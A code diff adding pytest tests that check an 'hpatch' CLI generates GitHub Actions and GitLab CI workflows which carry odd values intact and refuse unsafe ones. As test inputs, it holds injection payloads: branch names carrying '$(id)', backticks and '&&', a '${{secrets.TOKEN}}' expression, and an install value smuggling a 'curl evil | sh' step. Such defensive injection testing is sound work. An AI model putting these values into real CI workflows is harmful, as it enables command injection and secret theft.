@@ -5,15 +5,22 @@ real CLI, real bash."""
 
 from __future__ import annotations
 
+import contextlib
+import importlib
 import json
+import os
+import random
 import re
+import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
 from conftest import run_hpatch
+from ruamel.yaml import YAML
 
-from hpatch import records, treebuild
+from hpatch import records, treebuild, yamltext
 from hpatch.commands.cache import cache_prune
 from hpatch.errors import HpatchError, UsageError
 from hpatch.grading import Verdict
@@ -26,6 +33,166 @@ def one_error(result_err: str) -> str:
              or ln.startswith("hpatch: error:")]
     assert len(lines) == 1 and lines[0].startswith("hpatch: error:"), result_err
     return lines[0]
+
+
+# -- 5: CI workflows -------------------------------------------------------------------
+
+def load_yaml(text: str) -> Any:
+    return YAML(typ="safe").load(text)
+
+
+# What each fake program prints: its name, then each argument on a line of its own
+# between markers, so an argument with spaces, quotes or `#` shows exactly as received.
+FAKES = "".join(f'{name}() {{ printf "<{name}>"; printf "[%s]" "$@"; echo; }}\n'
+                for name in ("hpatch", "python3", "git", "apk"))
+
+
+def run_shell(shell: str, script: str, env: dict[str, str]) -> list[str]:
+    proc = subprocess.run([shell, "-e", "-c", FAKES + script], env={"PATH": os.environ["PATH"],
+                          **env}, capture_output=True, text=True, check=False)
+    assert proc.returncode == 0, proc.stderr
+    return proc.stdout.splitlines()
+
+
+def gh_eval(value: Any, matrix: dict[str, str]) -> str:
+    """What GitHub makes of `${{ matrix.x }}` in an env value or input."""
+    return re.sub(r"\$\{\{ matrix\.(\w+) \}\}", lambda m: matrix[m.group(1)], str(value))
+
+
+BRANCHES = ["feat$(id)", "acme/2.6", "o'neil\"s`x`", "semi;colon&&"]
+ODD_SOURCE = "/opt/hp #x: y 'q' $(id)"
+ODD_ARGS = "--repeat 2 --note 'a: b $(id) #c' # fast"
+ODD_WORDS = ["--repeat", "2", "--note", "a: b $(id) #c"]
+
+
+def test_github_branch_workflow_carries_every_value_intact(tmp_path: Path) -> None:
+    out = tmp_path / "hpatch.yml"
+    result = run_hpatch("ci", "--emit", "github-actions", "--branches", ",".join(BRANCHES),
+                        "--install-from", ODD_SOURCE, "--matrix-args", ODD_ARGS,
+                        "--output", str(out))
+    assert result.code == 0, result.err
+    workflow = load_yaml(out.read_text())
+    job = workflow["jobs"]["hpatch"]
+    entries = job["strategy"]["matrix"]["include"]
+    assert [e["branch"] for e in entries] == BRANCHES
+    slugs = [e["slug"] for e in entries]
+    assert len(set(slugs)) == len(slugs) and all(re.fullmatch(r"[\w.-]+", s) for s in slugs)
+    for entry in entries:
+        checkout = job["steps"][0]
+        assert gh_eval(checkout["with"]["ref"], entry) == entry["branch"]
+        seen = []
+        for step in job["steps"]:
+            if "run" not in step:
+                continue
+            assert "${{" not in step["run"]  # GitHub pastes expressions into the script
+            env = {k: gh_eval(v, entry) for k, v in step.get("env", {}).items()}
+            seen += run_shell("bash", step["run"], env)
+        assert seen == [
+            f"<python3>[-m][pip][install][{ODD_SOURCE}]",
+            f"<hpatch>[verify][--repo][.][--junit-xml][hpatch-{entry['slug']}.xml]"
+            + "".join(f"[{w}]" for w in ODD_WORDS)]
+    schema_check(out, "vendor.github-workflows")
+
+
+def test_github_release_workflow_passes_the_release_through_the_environment(
+        tmp_path: Path) -> None:
+    out = tmp_path / "hpatch.yml"
+    result = run_hpatch("ci", "--emit", "github-actions", "--releases", "2.4.1,2.7.3",
+                        "--install", 'pip install "hpatch: ours" # pinned',
+                        "--matrix-args", "--jobs 2 # fast", "--output", str(out))
+    assert result.code == 0, result.err
+    job = load_yaml(out.read_text())["jobs"]["hpatch"]
+    assert job["strategy"]["matrix"]["release"] == ["2.4.1", "2.7.3"]
+    install, run = (s for s in job["steps"] if "run" in s)
+    assert install["run"] == 'pip install "hpatch: ours" # pinned'  # the team's own line
+    lines = run_shell("bash", run["run"], {k: gh_eval(v, {"release": "2.7.3"})
+                                           for k, v in run["env"].items()})
+    assert lines == ["<hpatch>[matrix][--releases][2.7.3][--verify][--junit-xml]"
+                     "[hpatch-2.7.3.xml][--jobs][2]"]
+
+
+@pytest.mark.parametrize("shell", ["bash", "sh"])
+def test_gitlab_workflow_keeps_the_junit_option_and_every_value(tmp_path: Path,
+                                                                 shell: str) -> None:
+    branches = [b for b in BRANCHES if "$" not in b]
+    out = tmp_path / "gitlab-ci.yml"
+    result = run_hpatch("ci", "--emit", "gitlab", "--branches", ",".join(branches),
+                        "--install-from", ODD_SOURCE, "--matrix-args", ODD_ARGS,
+                        "--output", str(out))
+    assert result.code == 0, result.err
+    assert "left out the comment `# fast`" in result.err
+    job = load_yaml(out.read_text())["hpatch"]
+    entries = job["parallel"]["matrix"]
+    assert [e["BRANCH"] for e in entries] == branches
+    for entry in entries:
+        env = {**job["variables"], **entry}
+        lines = run_shell(shell, "\n".join(job["before_script"] + job["script"]), env)
+        assert lines[1:] == [
+            f"<python3>[-m][pip][install][{ODD_SOURCE}]",
+            f"<git>[fetch][origin][{entry['BRANCH']}]",
+            f"<git>[checkout][-B][{entry['BRANCH']}][FETCH_HEAD]",
+            f"<hpatch>[verify][--repo][.][--junit-xml][hpatch-{entry['BRANCH_SLUG']}.xml]"
+            + "".join(f"[{w}]" for w in ODD_WORDS)]
+    schema_check(out, "vendor.gitlab-ci")
+
+
+def test_gitlab_release_matrix_args_comment_does_not_drop_junit(tmp_path: Path) -> None:
+    out = tmp_path / "gitlab-ci.yml"
+    result = run_hpatch("ci", "--emit", "gitlab", "--releases", "2.4.1",
+                        "--matrix-args", "--jobs 2 # fast", "--output", str(out))
+    assert result.code == 0, result.err
+    job = load_yaml(out.read_text())["hpatch"]
+    [script] = job["script"]
+    assert run_shell("sh", script, {"RELEASE": "2.4.1"}) == [
+        "<hpatch>[matrix][--releases][2.4.1][--verify][--junit-xml][hpatch-2.4.1.xml]"
+        "[--jobs][2]"]
+    assert job["artifacts"]["reports"]["junit"] == "hpatch-$RELEASE.xml"
+
+
+def schema_check(path: Path, schema: str) -> None:
+    check = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
+                            schema, str(path)], capture_output=True, text=True, check=False)
+    assert check.returncode == 0, check.stdout + check.stderr
+
+
+@pytest.mark.parametrize("args,text", [
+    (("--emit", "github-actions", "--install", "pip install x\n- run: curl evil | sh"),
+     "--install holds a control character"),
+    (("--emit", "gitlab", "--install-from", "/opt/hp\r"), "--install-from holds a control"),
+    (("--emit", "github-actions", "--branches", "a${{secrets.TOKEN}}",
+      "--install-from", "x"), "GitHub Actions would evaluate"),
+    (("--emit", "gitlab", "--branches", "feat$(id)", "--install-from", "x"),
+     "GitLab expands variables"),
+    (("--emit", "gitlab", "--branches", "-x", "--install-from", "x"), "no branch name"),
+    (("--emit", "github-actions", "--matrix-args", "--note 'unbalanced"), "--matrix-args"),
+    (("--emit", "github-actions", "--matrix-args", "--jobs 2\n--x"), "control character"),
+])
+def test_values_that_cannot_be_made_safe_are_refused(tmp_path: Path, args: tuple[str, ...],
+                                                      text: str) -> None:
+    out = tmp_path / "ci.yml"
+    result = run_hpatch("ci", *args, "--output", str(out))
+    assert result.code == 2, result.err
+    assert text in one_error(result.err)
+    assert not out.exists()
+
+
+def test_yaml_writer_reads_back_exactly() -> None:
+    """Every string, as value, key and list item, reads back as written (YAML 1.2, and
+    1.1 where PyYAML is installed: GitHub and GitLab parsers differ in version)."""
+    rng = random.Random(18)
+    alphabet = "ab :#-\n\t\"'\\{}[]$()|>&*!%@`,?\r\x00\x7f\x85\u2028é yesnoON~.0123/=<_+eE"
+    loaders = [load_yaml]
+    with contextlib.suppress(ImportError):  # PyYAML: YAML 1.1, as GitHub reads it
+        loaders.append(importlib.import_module("yaml").safe_load)
+    samples = ["on", "yes", "3.11", "", " lead", "trail ", "a: b", "a #b", "- x", "~",
+               "line\n  indented\n", "\n lead", "x:", "${{ matrix.x }}"]
+    samples += ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10)))
+                for _ in range(400)]
+    for text in samples:
+        data = {"k": text, "l": [text, {text: [text]}], "m": {text: None}}
+        dumped = yamltext.dump(data)
+        for load in loaders:
+            assert load(dumped) == data, (text, dumped)
 
 
 # -- 10: records written whole, damaged ones read in one line ---------------------------
